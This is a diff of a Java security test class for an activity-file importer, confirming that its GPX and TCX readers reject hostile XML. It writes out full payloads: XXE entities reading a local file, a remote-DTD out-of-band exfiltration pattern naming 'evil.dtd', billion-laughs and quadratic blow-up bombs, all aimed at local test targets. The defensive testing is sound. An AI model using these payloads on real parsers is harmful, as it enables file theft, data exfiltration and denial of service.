@@ -5,9 +5,11 @@ import static org.assertj.core.api.Assertions.assertThatThrownBy;
 import static org.assertj.core.api.Assertions.catchThrowableOfType;
 import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
 
+import io.backstride.ingest.gpx.GpxReader;
 import io.backstride.ingest.tcx.TcxReader;
 import java.io.ByteArrayInputStream;
 import java.io.ByteArrayOutputStream;
+import java.io.InputStream;
 import java.io.OutputStream;
 import java.net.InetAddress;
 import java.net.ServerSocket;
@@ -16,6 +18,7 @@ import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.time.Duration;
+import java.util.List;
 import java.util.Random;
 import java.util.zip.GZIPOutputStream;
 import org.junit.jupiter.api.Test;
@@ -36,24 +39,8 @@ class HostileInputTest {
   void xxeReadingALocalFileIsRejectedAndTheFileNeverAppears() throws Exception {
     Path secret = Files.writeString(dir.resolve("secret.txt"), SECRET);
     String uri = secret.toUri().toString();
-    String gpx =
-        """
-        <?xml version="1.0"?>
-        <!DOCTYPE gpx [<!ENTITY xxe SYSTEM "%s">]>
-        <gpx><trk><name>&xxe;</name><trkseg>
-        <trkpt lat="1" lon="1"><time>2026-03-02T07:00:00Z</time><ele>&xxe;</ele></trkpt>
-        </trkseg></trk></gpx>
-        """
-            .formatted(uri);
-    String tcx =
-        """
-        <?xml version="1.0"?>
-        <!DOCTYPE TrainingCenterDatabase [<!ENTITY xxe SYSTEM "%s">]>
-        <TrainingCenterDatabase><Activities><Activity Sport="&xxe;"><Lap><Track>
-        <Trackpoint><Time>2026-03-02T07:00:00Z</Time><AltitudeMeters>&xxe;</AltitudeMeters>
-        </Trackpoint></Track></Lap></Activity></Activities></TrainingCenterDatabase>
-        """
-            .formatted(uri);
+    String gpx = xxeGpx(uri);
+    String tcx = xxeTcx(uri);
 
     for (String xml : new String[] {gpx, tcx}) {
       InvalidActivityException e = reject(xml.getBytes(StandardCharsets.UTF_8));
@@ -71,22 +58,7 @@ class HostileInputTest {
   void externalParameterEntityThroughARemoteDtdMakesNoNetworkConnection() throws Exception {
     try (ServerSocket server = new ServerSocket(0, 50, InetAddress.getLoopbackAddress())) {
       String base = "http://127.0.0.1:" + server.getLocalPort();
-      String[] attacks = {
-        // out-of-band exfiltration: the remote DTD would define an entity sending a file back
-        """
-        <?xml version="1.0"?>
-        <!DOCTYPE gpx [<!ENTITY %% remote SYSTEM "%s/evil.dtd"> %%remote; %%send;]>
-        <gpx><trk><trkseg><trkpt lat="1" lon="1"><time>2026-03-02T07:00:00Z</time></trkpt>
-        </trkseg></trk></gpx>
-        """
-            .formatted(base),
-        """
-        <?xml version="1.0"?>
-        <!DOCTYPE TrainingCenterDatabase SYSTEM "%s/tcx.dtd">
-        <TrainingCenterDatabase/>
-        """
-            .formatted(base),
-      };
+      String[] attacks = {remoteDtdGpx(base), remoteDtdTcx(base)};
 
       for (String attack : attacks) {
         InvalidActivityException e = reject(attack.getBytes(StandardCharsets.UTF_8));
@@ -101,13 +73,7 @@ class HostileInputTest {
 
   @Test
   void billionLaughsIsRejectedWithoutExpandingAnything() {
-    StringBuilder dtd = new StringBuilder("<!DOCTYPE gpx [<!ENTITY lol0 \"lol\">");
-    for (int i = 1; i <= 9; i++) {
-      String previous = "&lol" + (i - 1) + ";";
-      dtd.append("<!ENTITY lol").append(i).append(" \"").append(previous.repeat(10)).append("\">");
-    }
-    dtd.append("]>");
-    String gpx = "<?xml version=\"1.0\"?>\n" + dtd + "\n<gpx><trk><name>&lol9;</name></trk></gpx>";
+    String gpx = billionLaughs();
 
     InvalidActivityException e = reject(gpx.getBytes(StandardCharsets.UTF_8));
 
@@ -116,13 +82,7 @@ class HostileInputTest {
 
   @Test
   void quadraticBlowUpIsRejectedWithoutExpandingAnything() {
-    String entity = "a".repeat(50_000);
-    String gpx =
-        "<?xml version=\"1.0\"?>\n<!DOCTYPE gpx [<!ENTITY a \""
-            + entity
-            + "\">]>\n<gpx><trk><name>"
-            + "&a;".repeat(50_000)
-            + "</name></trk></gpx>";
+    String gpx = quadraticBlowUp();
 
     InvalidActivityException e = reject(gpx.getBytes(StandardCharsets.UTF_8));
 
@@ -132,12 +92,7 @@ class HostileInputTest {
 
   @Test
   void quadraticBlowUpStraightIntoTheGpxReaderIsRejectedAsADtd() {
-    String gpx =
-        "<?xml version=\"1.0\"?>\n<!DOCTYPE gpx [<!ENTITY a \""
-            + "a".repeat(50_000)
-            + "\">]>\n<gpx><trk><name>"
-            + "&a;".repeat(50_000)
-            + "</name></trk></gpx>";
+    String gpx = quadraticBlowUp();
 
     InvalidActivityException e =
         assertTimeoutPreemptively(
@@ -145,9 +100,7 @@ class HostileInputTest {
             () ->
                 catchThrowableOfType(
                     InvalidActivityException.class,
-                    () ->
-                        new io.backstride.ingest.gpx.GpxReader()
-                            .read(new ByteArrayInputStream(gpx.getBytes()))));
+                    () -> new GpxReader().read(new ByteArrayInputStream(gpx.getBytes()))));
 
     assertThat(e.getMessage()).startsWith("DTDs are not accepted");
   }
@@ -218,6 +171,139 @@ class HostileInputTest {
     InvalidActivityException e = assertTimeoutPreemptively(QUICKLY, () -> reject(bomb));
 
     assertThat(e.getMessage()).startsWith("the gzip file unpacks to more than 100 times its size");
+  }
+
+  @Test
+  void everyHostileXmlFileInUtf16IsRejectedAsItsUtf8OriginalPlainAndGzipped() throws Exception {
+    Path secret = Files.writeString(dir.resolve("secret.txt"), SECRET);
+    String uri = secret.toUri().toString();
+    try (ServerSocket server = new ServerSocket(0, 50, InetAddress.getLoopbackAddress())) {
+      String base = "http://127.0.0.1:" + server.getLocalPort();
+      GpxReader gpx = new GpxReader();
+      TcxReader tcx = new TcxReader();
+      List<HostileXml> corpus =
+          List.of(
+              new HostileXml("XXE reading a local file, GPX", xxeGpx(uri), gpx::read),
+              new HostileXml("XXE reading a local file, TCX", xxeTcx(uri), tcx::read),
+              new HostileXml("parameter entity from a remote DTD", remoteDtdGpx(base), gpx::read),
+              new HostileXml("external DTD", remoteDtdTcx(base), tcx::read),
+              new HostileXml("billion laughs", billionLaughs(), gpx::read),
+              new HostileXml("quadratic blow-up", quadraticBlowUp(), gpx::read));
+
+      for (HostileXml attack : corpus) {
+        byte[] utf8 = attack.xml().getBytes(StandardCharsets.UTF_8);
+        String throughReaders = reject(utf8).getMessage();
+        String throughItsReader = rejectedBy(attack.reader(), utf8).getMessage();
+
+        for (Utf16Variants.Variant utf16 : Utf16Variants.of(attack.xml())) {
+          for (boolean gzipped : new boolean[] {false, true}) {
+            byte[] file = gzipped ? TestFiles.gzip(utf16.bytes()) : utf16.bytes();
+            String what = attack.name() + " in " + utf16 + (gzipped ? ", gzipped" : "");
+
+            InvalidActivityException e = assertTimeoutPreemptively(QUICKLY, () -> reject(file));
+
+            assertThat(e.getMessage()).as(what).isEqualTo(throughReaders).doesNotContain(SECRET);
+          }
+          // straight into the format's reader, without the detection's window in front of it
+          InvalidActivityException direct =
+              assertTimeoutPreemptively(QUICKLY, () -> rejectedBy(attack.reader(), utf16.bytes()));
+          assertThat(direct.getMessage())
+              .as(attack.name() + " in " + utf16 + " through its reader")
+              .isEqualTo(throughItsReader)
+              .doesNotContain(SECRET);
+        }
+      }
+
+      // Anything that had connected would be waiting in the backlog.
+      server.setSoTimeout(200);
+      assertThatThrownBy(server::accept).isInstanceOf(SocketTimeoutException.class);
+    }
+  }
+
+  /** A format's reader on its own, as the tests call it without the detection in front. */
+  @FunctionalInterface
+  private interface FormatReader {
+    ParsedActivity read(InputStream in) throws InvalidActivityException;
+  }
+
+  /** One file of the hostile corpus, and the reader its root element leads to. */
+  private record HostileXml(String name, String xml, FormatReader reader) {}
+
+  private static InvalidActivityException rejectedBy(FormatReader reader, byte[] file) {
+    InvalidActivityException e =
+        catchThrowableOfType(
+            InvalidActivityException.class, () -> reader.read(new ByteArrayInputStream(file)));
+    assertThat(e).as("rejected").isNotNull();
+    assertThat(e.getMessage()).doesNotContain("\n");
+    return e;
+  }
+
+  /** A GPX whose entity would read the file at {@code uri} into a name and an elevation. */
+  private static String xxeGpx(String uri) {
+    return """
+        <?xml version="1.0"?>
+        <!DOCTYPE gpx [<!ENTITY xxe SYSTEM "%s">]>
+        <gpx><trk><name>&xxe;</name><trkseg>
+        <trkpt lat="1" lon="1"><time>2026-03-02T07:00:00Z</time><ele>&xxe;</ele></trkpt>
+        </trkseg></trk></gpx>
+        """
+        .formatted(uri);
+  }
+
+  /** A TCX whose entity would read the file at {@code uri} into a sport and an altitude. */
+  private static String xxeTcx(String uri) {
+    return """
+        <?xml version="1.0"?>
+        <!DOCTYPE TrainingCenterDatabase [<!ENTITY xxe SYSTEM "%s">]>
+        <TrainingCenterDatabase><Activities><Activity Sport="&xxe;"><Lap><Track>
+        <Trackpoint><Time>2026-03-02T07:00:00Z</Time><AltitudeMeters>&xxe;</AltitudeMeters>
+        </Trackpoint></Track></Lap></Activity></Activities></TrainingCenterDatabase>
+        """
+        .formatted(uri);
+  }
+
+  /**
+   * Out-of-band exfiltration: the remote DTD at {@code base} would define an entity sending a file
+   * back.
+   */
+  private static String remoteDtdGpx(String base) {
+    return """
+        <?xml version="1.0"?>
+        <!DOCTYPE gpx [<!ENTITY %% remote SYSTEM "%s/evil.dtd"> %%remote; %%send;]>
+        <gpx><trk><trkseg><trkpt lat="1" lon="1"><time>2026-03-02T07:00:00Z</time></trkpt>
+        </trkseg></trk></gpx>
+        """
+        .formatted(base);
+  }
+
+  /** A TCX whose external DTD at {@code base} a validating parser would fetch. */
+  private static String remoteDtdTcx(String base) {
+    return """
+        <?xml version="1.0"?>
+        <!DOCTYPE TrainingCenterDatabase SYSTEM "%s/tcx.dtd">
+        <TrainingCenterDatabase/>
+        """
+        .formatted(base);
+  }
+
+  /** Ten levels of ten references each: a billion "lol"s if expanded. */
+  private static String billionLaughs() {
+    StringBuilder dtd = new StringBuilder("<!DOCTYPE gpx [<!ENTITY lol0 \"lol\">");
+    for (int i = 1; i <= 9; i++) {
+      String previous = "&lol" + (i - 1) + ";";
+      dtd.append("<!ENTITY lol").append(i).append(" \"").append(previous.repeat(10)).append("\">");
+    }
+    dtd.append("]>");
+    return "<?xml version=\"1.0\"?>\n" + dtd + "\n<gpx><trk><name>&lol9;</name></trk></gpx>";
+  }
+
+  /** One 50,000-letter entity referenced 50,000 times: 2.5 GB if expanded. */
+  private static String quadraticBlowUp() {
+    return "<?xml version=\"1.0\"?>\n<!DOCTYPE gpx [<!ENTITY a \""
+        + "a".repeat(50_000)
+        + "\">]>\n<gpx><trk><name>"
+        + "&a;".repeat(50_000)
+        + "</name></trk></gpx>";
   }
 
   private InvalidActivityException reject(byte[] file) {
